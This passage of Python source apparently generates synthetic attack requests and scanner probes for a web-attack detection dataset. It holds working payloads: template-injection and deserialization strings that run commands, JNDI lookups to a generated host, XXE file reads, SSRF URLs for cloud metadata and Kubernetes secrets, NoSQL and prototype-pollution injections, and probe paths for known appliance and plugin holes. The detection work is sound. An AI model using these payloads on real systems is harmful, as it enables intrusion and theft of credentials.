                                                      "${@java.lang.Runtime@getRuntime().exec('id')}", "${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
                                                      "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{'id'})).start()}", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}"))),
    Production("ssti.thymeleaf", "other", lambda r: r.choice(("__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::x",
                                                              "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
                                                              "[[${T(java.lang.System).getenv()}]]"))),
    Production("ssti.mako", "other", lambda r: r.choice(("${self.module.cache.util.os.system('id')}", "<%import os%>${os.popen('id').read()}", "{% import os %}{{os.popen('id').read()}}",
                                                         "${__import__('subprocess').check_output('id')}", "{{handler.settings}}"))),
    Production("jndi.spelled", "other", lambda r: r.choice((f"${{jndi:ldap://${{env:USER}}.{_host(r)}/a}}", f"${{${{upper:j}}${{upper:n}}di:ldap://{_host(r)}/u}}",
                                                            f"${{jndi:dns://${{sys:java.version}}.{_host(r)}}}", f"${{${{date:'j'}}${{date:'n'}}di:rmi://{_host(r)}/d}}",
                                                            f"${{jn${{lower:D}}i:ldap${{lower:S}}://{_host(r)}:636/s}}"))),
    Production("xxe.soap", "other", lambda r: f"<?xml version=\"1.0\"?><!DOCTYPE soap [<!ENTITY {r.choice(('x', 'f', 'doc'))} SYSTEM \"{r.choice(('file:///' + _releases_file(r), 'http://' + _host(r) + '/s'))}\">]><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><getUser><id>&{r.choice(('x', 'f', 'doc'))};</id></getUser></soap:Body></soap:Envelope>", ("xml",)),
    Production("xxe.svg", "other", lambda r: f"<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///{_releases_file(r)}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>", ("xml",)),
    Production("ssrf.cloud_v2", "other", lambda r: r.choice(("http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.169.254/latest/api/token", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
                                                             "http://127.0.0.1:9200/_cat/indices", "http://localhost:5984/_all_dbs", "http://169.254.169.254/metadata/identity/oauth2/token?resource=https://management.azure.com/",
                                                             "http://127.0.0.1:10255/pods", "http://localhost:8080/actuator/env"))),
    Production("nosql.operators", "other", lambda r: r.choice(('{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}', "username[$nin][]=admin",
                                                               "'||'1'=='1", '{"$or":[{},{"a":"a"}]}', "password[$exists]=true", '{"$where":"this.password.match(/^a/)"}')), ("query", "form", "json")),
    Production("proto.gadget", "other", lambda r: r.choice(("__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');x", "constructor[prototype][sourceURL]=\\u2028\\u2029alert(1)",
                                                            '{"__proto__":{"client":true,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id\')"}}',
                                                            "__proto__[NODE_OPTIONS]=--require /proc/self/environ")), ("query", "form", "json")),
    Production("deser.pickle", "other", lambda r: r.choice(("gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", "cos\nsystem\n(S'id'\ntR.", "Y3Bvc2l4CnN5c3RlbQooUydpZCcKdFIu",
                                                            "BAhvOkBBY3RpdmVTdXBwb3J0OjpEZXByZWNhdGlvbjo6RGVwcmVjYXRlZEluc3RhbmNlVmFyaWFibGVQcm94eQ==",
                                                            "gASVLAAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIwQX19pbXBvcnRfXygnb3MnKZSFlFKULg=="))),
)

# The unseen-releases split's probe families: what scanners hunt that the families above do not name (AI and ML tools, collaboration,
# file-transfer and edge appliances' recent holes, WordPress plugins, JavaScript frameworks' dev endpoints, cloud-native
# control planes). ``probe_paths`` drops any that one of ``PROBE_PATHS`` also has.
RELEASES_PROBE_PATHS = (
    ("probe.ai_tools", ("/ollama/api/tags", "/gradio_api/info", "/ComfyUI/view?filename=../../etc/passwd", "/comfyui/system_stats", "/api/v1/validate/code",
                        "/ajax-api/2.0/mlflow/experiments/search", "/jupyter/api/kernels", "/lab?token=", "/openai/deployments/", "/sdapi/v1/options",
                        "/file=/etc/passwd", "/api/experimental/dags", "/webui/api/v1/auths/signup", "/litellm/health", "/ray/api/jobs/",
                        "/tensorboard/data/plugins_listing", "/kubeflow/pipeline/apis/v1beta1/pipelines", "/langflow/api/v1/auto_login",
                        "/anythingllm/api/system/accept-privacy", "/invokeai/api/v1/app/version")),
    ("probe.edge", ("/clients/MyCRL", "/php/utils/debug.php", "/global-protect/portal/css/login.css/../../../../../../var/appweb/sslvpndocs/global-protect/portal/",
                    "/api/v1/configuration/users/user-roles/user-role/rest-userrole1/web/web-bookmarks/bookmark", "/dana-ws/namedusers",
                    "/api/v1/cav/client/status/../../admin/options", "/mifs/aad/api/v2/authorized/users", "/oauth/idp/.well-known/openid-configuration",
                    "/p/u/doAuthentication.do", "/api/v2/cmdb/system/admin", "/remote/hostcheck_validate", "/webconsole/webpages/login.jsp",
                    "/%25/webui/", "/sslvpn_logon.shtml", "/api/v1/totp/user-backup-code/../../license/keys-status/",
                    "/cgi-bin/fgt_lang", "/dana-cached/hc/HostCheckerInstaller.osx")),
    ("probe.collab", ("/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", "/_vti_bin/client.svc/ProcessQuery", "/_vti_pvt/service.pwd",
                      "/Telerik.Web.UI.WebResource.axd?type=rau", "/ReportServer/Pages/ReportViewer.aspx", "/rest/api/2/serverInfo",
                      "/secure/ContactAdministrators!default.jspa", "/pages/doenterpagevariables.action", "/plugins/servlet/oauth/users/icon-uri",
                      "/rest/tinymce/1/macro/preview", "/template/aui/text-inline.vm", "/s/x/_/;/WEB-INF/web.xml", "/server-info.action",
                      "/plugins/servlet/gadgets/makeRequest?url=http://127.0.0.1:8080", "/secure/QueryComponent!Default.jspa", "/setup/setupadministrator.action",
                      "/json/setupadministrator.action", "/_layouts/15/start.aspx", "/owa/auth/logon.aspx?replaceCurrent=1&url=")),
    ("probe.file_transfer", ("/moveitisapi/moveitisapi.dll?action=m2", "/human.aspx", "/guestaccess.aspx", "/WebInterface/function/", "/WebInterface/login.html",
                             "/goanywhere/lic/accept", "/goanywhere/images/../wizard/InitialAccountSetup.xhtml", "/sfm/login.jsp", "/SetupWizard.aspx/",
                             "/api/v1/users/me/../../../sys/info", "/Files/../../../../windows/win.ini", "/cgi-bin/filemanager/utilRequest.cgi",
                             "/ServletModule/login", "/sws/app/gui/login")),
    ("probe.wp_plugins", ("/wp-content/plugins/elementor/readme.txt", "/wp-content/plugins/litespeed-cache/readme.txt", "/wp-content/plugins/wp-automatic/inc/csv.php",
                          "/wp-content/plugins/really-simple-ssl/readme.txt", "/wp-content/plugins/forminator/readme.txt", "/wp-content/plugins/ultimate-member/readme.txt",
                          "/wp-content/plugins/backup-backup/includes/backup-heart.php", "/wp-content/plugins/woocommerce-payments/readme.txt",
                          "/wp-json/litespeed/v1/cdn_status", "/wp-content/plugins/essential-addons-for-elementor-lite/readme.txt", "/wp-content/themes/bricks/readme.txt",
                          "/wp-admin/admin-ajax.php?action=bricks_save_post", "/wp-json/wp-abilities/v1/manifest", "/wp-content/plugins/post-smtp/readme.txt",
                          "/wp-json/post-smtp/v1/connect-app", "/wp-content/plugins/gutenkit-blocks-addon/readme.txt", "/wp-json/gutenkit/v1/install-active-plugin")),
    ("probe.js_apps", ("/_next/image?url=http://169.254.169.254/latest/meta-data/&w=64&q=75", "/__nextjs_original-stack-frame?isServer=true&file=/etc/passwd",
                       "/_next/static/../../../../etc/passwd", "/api/__coverage__", "/_nuxt/@fs/etc/passwd", "/.next/server/pages-manifest.json",
                       "/.nuxt/dist/server/client.manifest.json", "/@id/__x00__/etc/passwd", "/__vite_ping", "/_astro/../../../../etc/passwd",
                       "/.output/server/index.mjs", "/remix/build/version", "/_app/env.json", "/__nextjs_source-map?filename=/etc/passwd")),
    ("probe.cloud_native", ("/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "/api/v1/namespaces/kube-system/configmaps", "/debug/pprof/goroutine?debug=2",
                            "/v1/agent/members", "/api/v1/applications?fields=items.spec", "/api/v1/label/__name__/values", "/v1/sys/seal-status",
                            "/v1/secret/data/prod", "/argo-cd/api/version", "/apis/argoproj.io/v1alpha1/workflows", "/metrics/cadvisor", "/configz")),
)


def productions(split: Split, kind: str | None = None) -> tuple[Production, ...]:
    """Payload productions of one split (and kind), or a measurement split's own."""
    if split in MODULE_SPLITS:
        pool = unseen_module(split).PRODUCTIONS
    elif split == UNSEEN_RELEASES:
        pool = RELEASES_PRODUCTIONS
    else:
        pool = _SIDES[split]
    return tuple(p for p in pool if kind is None or p.kind == kind)


@functools.cache
def probe_paths(split: Split) -> tuple[str, ...]:
    """Scanner probe paths of one side (held out path by path within each family), or a measurement split's own."""
    if split == UNSEEN_RELEASES:
        known = {p for _, paths in PROBE_PATHS for p in paths}
        return tuple(p for _, paths in RELEASES_PROBE_PATHS for p in paths if p not in known)
    if split in MODULE_SPLITS:
        earlier = PROBE_PATHS + RELEASES_PROBE_PATHS + tuple(f for e in built_before(split) for f in unseen_module(e).PROBE_PATHS)
        known = {p for _, paths in earlier for p in paths}
        return tuple(p for _, paths in unseen_module(split).PROBE_PATHS for p in paths if p not in known)
    out: list[str] = []
    for name, paths in PROBE_PATHS:
        out += assign(list(paths), "probe", lambda p, n=name: f"{n}:{p}")[split]
    return tuple(out)


_PROBE_PREFIXES = ("", "", "", "/old", "/backup", "/wp", "/blog", "/api", "/admin", "/site", "/new", "/test", "/v1", "/public", "/app",
                   "/www", "/dev", "/staging", "/cms", "/web")
_PROBE_SUFFIXES = ("", "", "", "", ".bak", "~", ".old", ".save", ".swp", ".orig", ".txt", ".1")


def probe(rng: random.Random, split: Split) -> str:
    """A probe as scanners send it: a known path under a guessed prefix, sometimes a backup-file suffix."""
    path = rng.choice(probe_paths(split))
    if "?" not in path and rng.random() < 0.5:
        path = rng.choice(_PROBE_PREFIXES) + path
        if not path.endswith("/"):
            path += rng.choice(_PROBE_SUFFIXES)
    return path
